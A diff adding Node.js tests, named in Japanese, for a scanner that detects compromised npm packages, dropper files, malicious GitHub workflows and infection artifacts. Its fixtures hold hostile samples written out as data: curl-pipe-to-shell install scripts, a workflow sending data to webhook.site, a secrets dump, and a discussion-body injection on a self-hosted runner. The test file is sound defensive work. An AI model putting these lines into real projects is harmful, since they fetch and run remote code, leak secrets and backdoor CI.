@@ -0,0 +1,272 @@
+const { describe, it } = require('node:test');
+const assert = require('node:assert/strict');
+const fs = require('fs');
+const path = require('path');
+const { createCompromisedMap, loadInstalledInventory, scan, scanProject } = require('../lib/scanner.cjs');
+const { shouldFail } = require('../lib/cli.cjs');
+const { useFixtures } = require('./helpers.cjs');
+
+const createProject = useFixtures();
+
+const compromised = createCompromisedMap([{ packages: [{ name: 'has-flag', versions: ['5.0.1'] }] }]);
+
+describe('scanProject（ワークスペース）', () => {
+	it('検出結果は依存関係を宣言しているワークスペースに帰属させる', () => {
+		const root = createProject({
+			'package.json': { name: 'ws-root', private: true, workspaces: ['packages/*'] },
+			'packages/a/package.json': { name: 'a', version: '1.0.0' },
+			'packages/b/package.json': { name: 'b', version: '1.0.0', dependencies: { 'has-flag': '^5.0.0' } },
+			'packages/b/node_modules/has-flag/package.json': { name: 'has-flag', version: '5.0.1' },
+			'package-lock.json': {
+				name: 'ws-root',
+				lockfileVersion: 3,
+				packages: {
+					'': { name: 'ws-root', workspaces: ['packages/*'] },
+					// lockfileVersion 3 のワークスペースのエントリには name がない場合がある
+					'packages/a': { version: '1.0.0' },
+					'packages/b': { version: '1.0.0', dependencies: { 'has-flag': '^5.0.0' } },
+					'node_modules/a': { resolved: 'packages/a', link: true },
+					'node_modules/b': { resolved: 'packages/b', link: true },
+					'packages/b/node_modules/has-flag': { version: '5.0.1' },
+				},
+			},
+		});
+		fs.mkdirSync(path.join(root, 'node_modules'));
+		fs.symlinkSync(path.join('..', 'packages', 'a'), path.join(root, 'node_modules', 'a'), 'dir');
+		fs.symlinkSync(path.join('..', 'packages', 'b'), path.join(root, 'node_modules', 'b'), 'dir');
+
+		const results = scanProject(root, { compromised, iocMaxFileSize: 0 });
+
+		const installed = results.foundInNodeModules.filter((item) => item.type === 'installed');
+		const references = results.foundInNodeModules.filter((item) => item.type === 'dependency-reference');
+		assert.equal(installed.length, 1);
+		assert.ok(references.length >= 1);
+		assert.equal(results.foundInPackageJson.length, 1);
+		assert.equal(results.foundInLockfiles.length, 1);
+
+		const labels = [...installed, ...references, ...results.foundInPackageJson, ...results.foundInLockfiles].map((item) => item.workspace);
+		assert.deepEqual([...new Set(labels)], ['b']);
+		assert.equal(results.foundInLockfiles[0].dependencyPath[0], 'b');
+	});
+
+	it('ルートに巻き上げられた推移的な依存は依存経路の起点のワークスペースに帰属させる', () => {
+		const root = createProject({
+			'package.json': { name: 'ws-root', private: true, workspaces: ['packages/*'] },
+			'packages/app/package.json': { name: 'app', version: '1.0.0', dependencies: { foo: '^1.0.0' } },
+			'node_modules/foo/package.json': { name: 'foo', version: '1.0.0', dependencies: { 'has-flag': '^5.0.0' } },
+			'node_modules/has-flag/package.json': { name: 'has-flag', version: '5.0.1' },
+		});
+		fs.symlinkSync(path.join('..', 'packages', 'app'), path.join(root, 'node_modules', 'app'), 'dir');
+
+		const results = scanProject(root, { compromised, iocMaxFileSize: 0 });
+
+		const installed = results.foundInNodeModules.find((item) => item.type === 'installed');
+		assert.deepEqual(installed.dependencyPath, ['app', 'foo@1.0.0', 'has-flag@5.0.1']);
+		assert.equal(installed.workspace, 'app');
+		const reference = results.foundInNodeModules.find((item) => item.type === 'dependency-reference');
+		assert.equal(reference.workspace, 'app');
+	});
+});
+
+describe('scanProject（サマリー）', () => {
+	it('問題がない場合は safe', () => {
+		const root = createProject({ 'package.json': { name: 'clean', version: '1.0.0' } });
+		const { summary } = scanProject(root, { compromised });
+		assert.deepEqual(summary, { safe: true, totalIssues: 0, criticalLevel: 'none' });
+		assert.equal(shouldFail(summary, 'any'), false);
+	});
+
+	it('package.json の宣言のみの場合は high', () => {
+		const root = createProject({ 'package.json': { name: 'declared', version: '1.0.0', dependencies: { 'has-flag': '^5.0.0' } } });
+		const { summary } = scanProject(root, { compromised });
+		assert.deepEqual(summary, { safe: false, totalIssues: 1, criticalLevel: 'high' });
+		assert.equal(shouldFail(summary, 'critical'), false);
+		assert.equal(shouldFail(summary, 'high'), true);
+	});
+
+	it('IOC に一致したファイルはファイルごとに critical として数える', () => {
+		const root = createProject({
+			'package.json': { name: 'infected', version: '1.0.0' },
+			'setup_bun.js': '// dropper\n',
+			'node_modules/evil/package.json': { name: 'evil', version: '1.0.0' },
+			'node_modules/evil/setup_bun.js': '// dropper\n',
+			// 依存パッケージの一般的なファイル名は検出しない
+			'node_modules/aws-config/package.json': { name: 'aws-config', version: '1.0.0' },
+			'node_modules/aws-config/cloud.json': {},
+		});
+		const { summary } = scanProject(root, { compromised, iocMaxFileSize: 0 });
+		assert.deepEqual(summary, { safe: false, totalIssues: 2, criticalLevel: 'critical' });
+		assert.equal(shouldFail(summary, 'critical'), true);
+	});
+
+	it('複数の IOC に一致したファイルも 1 件として数える', () => {
+		const root = createProject({
+			'package.json': { name: 'infected', version: '1.0.0' },
+			'setup_bun.js': 'require("child_process").execSync("curl -fsSL https://bun.sh/install | bash && bun bun_environment.js");\n',
+		});
+		const results = scanProject(root, { compromised });
+		assert.deepEqual(results.suspiciousFiles.map((item) => item.name), ['setup_bun.js', 'dropper-bun-install']);
+		assert.deepEqual(results.summary, { safe: false, totalIssues: 1, criticalLevel: 'critical' });
+	});
+
+	it('悪意のあるワークフローは critical として数える', () => {
+		const root = createProject({
+			'package.json': { name: 'workflows', version: '1.0.0' },
+			'.github/workflows/formatter_123456789.yml': 'on: push\njobs: {}\n',
+			'.github/workflows/ci.yml': 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n',
+		});
+		const results = scanProject(root, { compromised, iocMaxFileSize: 0 });
+		assert.deepEqual(results.suspiciousFiles.map((item) => item.name), ['workflow-formatter']);
+		assert.deepEqual(results.summary, { safe: false, totalIssues: 1, criticalLevel: 'critical' });
+		assert.equal(shouldFail(results.summary, 'critical'), true);
+	});
+
+	it('シークレットの書き出しや webhook.site への送信だけのワークフローは警告のみ', () => {
+		const root = createProject({
+			'package.json': { name: 'workflows', version: '1.0.0' },
+			'.github/workflows/debug.yml': 'on: push\njobs:\n  debug:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ toJSON(secrets) }}" | wc -c\n',
+			'.github/workflows/notify.yml': 'on: push\njobs:\n  notify:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -X POST https://webhook.site/test\n',
+		});
+		const results = scanProject(root, { compromised, iocMaxFileSize: 0 });
+		assert.deepEqual(
+			results.suspiciousFiles.map((item) => [item.name, item.severity]),
+			[
+				['workflow-secrets-dump', 'warning'],
+				['workflow-webhook-exfil', 'warning'],
+			],
+		);
+		assert.deepEqual(results.summary, { safe: true, totalIssues: 0, criticalLevel: 'none' });
+	});
+
+	it('自己ホストランナーでディスカッションの本文を実行するワークフローは critical として数える', () => {
+		const backdoor = 'on:\n  discussion:\njobs:\n  process:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n';
+		const root = createProject({
+			'package.json': { name: 'workflows', version: '1.0.0' },
+			'.github/workflows/discussion.yaml': backdoor,
+			'.github/workflows/triage.yml': backdoor.replace('self-hosted', 'ubuntu-latest'),
+		});
+		const results = scanProject(root, { compromised, iocMaxFileSize: 0 });
+		assert.deepEqual(
+			results.suspiciousFiles.map((item) => [item.name, item.severity, item.paths.map((p) => path.basename(p))]),
+			[['workflow-discussion-injection', 'critical', ['discussion.yaml']]],
+		);
+		assert.deepEqual(results.summary, { safe: false, totalIssues: 1, criticalLevel: 'critical' });
+	});
+
+	it('既知のペイロードを実行するインストールスクリプトは critical として数える', () => {
+		const root = createProject({
+			'package.json': { name: 'scripts', version: '1.0.0' },
+			'node_modules/evil/package.json': { name: 'evil', version: '1.0.0', scripts: { preinstall: 'node setup_bun.js' } },
+		});
+		const results = scanProject(root, { compromised, iocMaxFileSize: 0 });
+		assert.equal(results.installScripts[0].severity, 'critical');
+		assert.deepEqual(results.summary, { safe: false, totalIssues: 1, criticalLevel: 'critical' });
+	});
+
+	it('経験則のパターンのみに一致するスクリプトは報告のみ（core-js の postinstall）', () => {
+		const root = createProject({
+			'package.json': { name: 'scripts', version: '1.0.0', dependencies: { 'core-js': '^3.9.1' } },
+			'node_modules/core-js/package.json': { name: 'core-js', version: '3.9.1', scripts: { postinstall: 'node -e "try{require(\'./postinstall\')}catch(e){}"' } },
+			'node_modules/fetcher/package.json': { name: 'fetcher', version: '1.0.0', scripts: { postinstall: 'curl -fsSL https://example.com/x | sh' } },
+		});
+		const results = scanProject(root, { compromised, iocMaxFileSize: 0 });
+		assert.deepEqual(results.installScripts.map((item) => [item.package, item.severity]), [
+			['core-js', 'warning'],
+			['fetcher', 'warning'],
+		]);
+		assert.deepEqual(results.summary, { safe: true, totalIssues: 0, criticalLevel: 'none' });
+		assert.equal(shouldFail(results.summary, 'any'), false);
+
+		// --strict-scripts では high として数える
+		const strict = scanProject(root, { compromised, iocMaxFileSize: 0, strictScripts: true }).summary;
+		assert.deepEqual(strict, { safe: false, totalIssues: 2, criticalLevel: 'high' });
+		assert.equal(shouldFail(strict, 'high'), true);
+	});
+});
+
+describe('scan（ホストの検査）', () => {
+	const project = () => createProject({ 'package.json': { name: 'clean', version: '1.0.0' } });
+
+	it('ホームディレクトリの感染の痕跡は critical として数える', () => {
+		const home = createProject({ '.truffler-cache/extract/x': '', 'truffleSecrets.json': {} });
+		const report = scan({ targetDir: project(), compromised, host: true, home });
+
+		assert.deepEqual(report.host.artifacts.map((artifact) => artifact.id), ['truffler-cache', 'truffleSecrets.json']);
+		assert.deepEqual(report.summary, { safe: false, totalIssues: 2, criticalLevel: 'critical' });
+		assert.equal(shouldFail(report.summary, 'critical'), true);
+	});
+
+	it('Bun のインストール（warning）のみの場合は safe のまま', () => {
+		const home = createProject({ '.bun/bin/bun': '' });
+		const report = scan({ targetDir: project(), compromised, host: true, home });
+
+		assert.deepEqual(report.host.artifacts.map((artifact) => artifact.id), ['bun-install']);
+		assert.equal(report.summary.safe, true);
+		assert.equal(shouldFail(report.summary, 'any'), false);
+	});
+});
+
+describe('scan（グローバル・キャッシュの検査）', () => {
+	it('グローバルプレフィックスの侵害バージョンは critical として数える', () => {
+		const targetDir = createProject({ 'package.json': { name: 'clean', version: '1.0.0' } });
+		const prefix = createProject({ 'lib/node_modules/has-flag/package.json': { name: 'has-flag', version: '5.0.1' } });
+		const report = scan({ targetDir, compromised, caches: [{ type: 'global', dir: prefix }] });
+
+		assert.equal(report.caches[0].findings.length, 1);
+		assert.deepEqual(report.summary, { safe: false, totalIssues: 1, criticalLevel: 'critical' });
+		assert.equal(shouldFail(report.summary, 'critical'), true);
+	});
+
+	it('複数プロジェクトの集計結果にも加える', () => {
+		const targetDirs = [1, 2].map((index) => createProject({ 'package.json': { name: `clean-${index}`, version: '1.0.0' } }));
+		const prefix = createProject({ 'lib/node_modules/has-flag/package.json': { name: 'has-flag', version: '5.0.1' } });
+		const report = scan({ targetDirs, compromised, caches: [{ type: 'global', dir: prefix }] });
+
+		assert.equal(report.summary.affectedProjects, 0);
+		assert.equal(report.summary.totalIssues, 1);
+		assert.equal(report.summary.safe, false);
+		assert.equal(report.summary.criticalLevel, 'critical');
+	});
+});
+
+describe('loadInstalledInventory（Yarn PnP）', () => {
+	// has-flag@5.0.1 に依存する PnP のプロジェクト（ツールが作成した node_modules/.cache あり）
+	const pnpProject = () =>
+		createProject({
+			'package.json': { name: 'pnp-app', version: '1.0.0', dependencies: { 'has-flag': '^5.0.0' } },
+			'.pnp.data.json': {
+				packageRegistryData: [
+					[null, [[null, { packageLocation: './', packageDependencies: [['has-flag', 'npm:5.0.1']] }]]],
+					['has-flag', [['npm:5.0.1', { packageLocation: './.yarn/cache/has-flag-npm-5.0.1-0123456789-abcdef.zip/node_modules/has-flag/', packageDependencies: [] }]]],
+				],
+			},
+			'node_modules/.cache/babel-loader/0.json': {},
+		});
+
+	it('PnP のデータがある場合は node_modules があっても PnP を使う', () => {
+		const root = pnpProject();
+		const installed = loadInstalledInventory(root);
+
+		assert.equal(installed.linker, 'pnp');
+		assert.equal(installed.path, path.join(root, '.pnp.data.json'));
+		assert.deepEqual(installed.inventory.get('has-flag').map((instance) => instance.version), ['5.0.1']);
+		assert.equal(scanProject(root, { compromised, iocMaxFileSize: 0 }).summary.criticalLevel, 'critical');
+	});
+
+	it('PnP のデータがなく node_modules にパッケージがない場合は .yarn/cache を使う', () => {
+		const root = createProject({
+			'package.json': { name: 'zero-install', version: '1.0.0' },
+			'node_modules/.cache/x.json': {},
+			'.yarn/cache/.gitignore': '',
+		});
+		assert.equal(loadInstalledInventory(root).linker, 'pnp');
+	});
+
+	it('node_modules にパッケージがある場合は node_modules を使う', () => {
+		const root = createProject({
+			'package.json': { name: 'nm-app', version: '1.0.0' },
+			'node_modules/has-flag/package.json': { name: 'has-flag', version: '5.0.1' },
+		});
+		assert.equal(loadInstalledInventory(root).linker, 'node-modules');
+	});
+});